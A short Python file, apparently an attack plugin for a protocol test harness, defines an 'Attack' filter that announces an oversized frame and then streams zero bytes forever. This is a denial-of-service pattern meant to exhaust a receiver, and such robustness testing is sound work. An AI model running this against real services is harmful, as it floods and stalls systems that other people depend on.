"""Begins a frame of the largest size and sends it without end."""

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

import tools

from zads.filters import Filter


class Attack(Filter):
    """Begins a frame of the largest size and sends it without end."""

    fields = ("candid",)
    cap = 1_000_000
    time_limit = 0.3

    def accept(self, alert):
        tools.raw((7_900_000).to_bytes(4, "big"))
        while True:
            tools.raw(bytes(60_000))
